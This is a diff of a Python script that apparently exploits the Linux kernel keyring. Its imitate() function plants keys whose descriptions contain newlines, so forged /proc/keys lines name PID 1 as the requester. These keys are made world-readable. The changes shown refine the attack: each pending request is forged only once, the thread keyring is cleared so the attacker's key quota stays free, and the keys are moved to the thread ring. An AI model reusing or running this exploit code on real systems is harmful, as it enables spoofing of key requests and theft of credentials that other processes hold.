@@ -32,8 +32,9 @@ THREAD, PROCESS, SESSION, USER = -1, -2, -3, -4
 # that has them, too, and takes the key back.
 EVERYTHING = 0x3f3f0000
 EVERYBODY = 0x3f3f3f3f
-GENUINE = "1b3f0000"
+GENUINE = "1b3e0000"
 held = None  # the keyring of detach()
+imitated = set()  # requests that imitate() has made a line for
 
 
 def request(description, callout="", ring=USER):
@@ -80,13 +81,18 @@ def detach():
 
 def imitate():
     """A line of /proc/keys that names another process as the requester: a
-    description may hold line breaks, and everybody may look at it."""
+    description may hold line breaks, and everybody may look at it.  One of
+    each, or the attacker's own quota is full at once."""
+    if len(imitated) > 20:
+        lib.keyctl_clear(THREAD)
+        imitated.clear()
     with open("/proc/keys") as keys:
         for line in keys:
-            if ".request_ key:" in line:
+            if ".request_ key:" in line and line[:8] not in imitated:
+                imitated.add(line[:8])
                 forged = line.rsplit("pid:", 1)[0] + "pid:1 ci:0"
                 key = lib.add_key(b"user", b"x\n" + forged.strip().encode(),
-                                  b"x", 1, PROCESS)
+                                  b"x", 1, THREAD)
                 lib.keyctl_setperm(key, EVERYBODY)
 
 
